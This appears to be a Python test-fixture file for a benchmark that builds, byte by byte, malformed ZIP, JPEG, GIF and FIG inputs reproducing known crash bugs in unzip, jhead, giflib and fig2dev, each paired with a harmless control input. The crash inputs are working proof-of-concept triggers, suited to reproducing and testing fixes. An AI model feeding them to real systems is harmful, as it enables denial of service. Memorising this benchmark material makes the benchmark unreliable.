# SPDX-License-Identifier: Apache-2.0
"""How each input of `real.debian` is made, byte by byte, from the public description of its error."""

from __future__ import annotations

import struct
import zlib

FIG = "#FIG 3.2\nLandscape\nCenter\nMetric\nA4\n100.00\nSingle\n-2\n1200 2\n"
LINE = f"{FIG}2 1 0 1 0 7 50 -1 -1 0.0 0 0 -1 0 0 2\n\t 0 0 1200 0\n".encode()
BOX = f"{FIG}2 4 1 1 0 0 50 -1 -1 4.0 0 0 0 0 0 5\n\t 0 0 900 0 900 900 0 900 0 0\n".encode()
OLD_FIG = "#FIG 3.1\nLandscape\nCenter\nMetric\n1200 2\n3 2 0 1 0 7 50 -1 -1 0.0 0 0 0 2\n"
NAN = f"{OLD_FIG}\t 0 0 2400 0\n\t 300 300 300 nan\n\t 900 900 900 900\n".encode()
SPLINE = f"{OLD_FIG}\t 0 0 1200 0\n\t 0 0 300 300 900 300 1200 0\n".encode()


def zip_file(*, method: int = 0, extra: bytes = b"") -> bytes:
    """An archive of one stored file."""
    name, data = b"a.txt", b"hello\n"
    head = struct.pack("<HHHHIIIHH", 0, method, 0, 0x21, zlib.crc32(data), 6, 6, len(name), len(extra))
    local = b"PK\3\4" + struct.pack("<H", 20) + head + name + extra + data
    central = (
        b"PK\1\2" + struct.pack("<HH", 20, 20) + head + struct.pack("<HHHII", 0, 0, 0, 0, 0) + name + extra
    )
    return local + central + b"PK\5\6" + struct.pack("<HHHHIIH", 0, 0, 1, 1, len(central), len(local), 0)


def extra_field(number: int, content: bytes) -> bytes:
    """One extra field of an archive's member."""
    return struct.pack("<HH", number, len(content)) + content


def segment(marker: int, content: bytes) -> bytes:
    """One segment of a JPEG file."""
    return bytes([0xFF, marker]) + struct.pack(">H", len(content) + 2) + content


def jpeg(*segments: bytes) -> bytes:
    """A picture of one pixel with these segments before it."""
    frame = segment(0xC0, b"\x08\0\x08\0\x08\x01\x01\x11\0")
    return (
        b"\xff\xd8" + b"".join(segments) + frame + segment(0xDA, b"\x01\x01\0\0?\0") + bytes(32) + b"\xff\xd9"
    )


def exif(stamp_at: int) -> bytes:
    """An Exif segment with one entry, the date, `stamp_at` bytes behind its header."""
    entry = struct.pack("<HI", 0x2A, 8) + struct.pack("<HHHIII", 1, 0x9003, 2, 20, stamp_at, 0)
    return segment(0xE1, b"Exif\0\0" + (b"II" + entry).ljust(stamp_at, b"\0") + b"2020:02:02 02:02:02\0")


def gif(control: bytes) -> bytes:
    """A picture of one pixel whose graphics control block is `control`."""
    screen = struct.pack("<HHBBB", 1, 1, 0x80, 0, 0) + b"\0\0\0\xff\xff\xff"
    block = b"\x21\xf9" + bytes([len(control)]) + control + b"\0"
    return (
        b"GIF89a"
        + screen
        + block
        + b"\x2c"
        + struct.pack("<HHHHB", 0, 0, 1, 1, 0)
        + b"\x02\x02\x44\x01\0\x3b"
    )


STORED_EA = struct.pack("<I", 4) + struct.pack("<HI", 0, 0) + b"A" * 4000
MALFORMED_EXIF = segment(0xE1, b"Exif\0\0XX" + bytes(16))

PROOFS: dict[str, tuple[bytes, bytes]] = {
    "fig2dev-2025-31164": (BOX, LINE),
    "fig2dev-2025-46397": (NAN, LINE),
    "fig2dev-2025-46399": (SPLINE, LINE),
    "giflib-2026-26740": (gif(b"\0"), gif(bytes(4))),
    "jhead-2021-34055": (jpeg(MALFORMED_EXIF, exif(300)), jpeg(exif(300))),
    "unzip-2014-8139": (zip_file(extra=extra_field(0x0C, b"ab")), zip_file()),
    "unzip-2014-9636": (zip_file(extra=extra_field(0x09, STORED_EA)), zip_file()),
    "unzip-2014-9913": (zip_file(method=65535), zip_file()),
    "unzip-2016-9844": (zip_file(method=65535), zip_file()),
}
"""Recipe to (input that crashes the vulnerable build, input that does not)."""
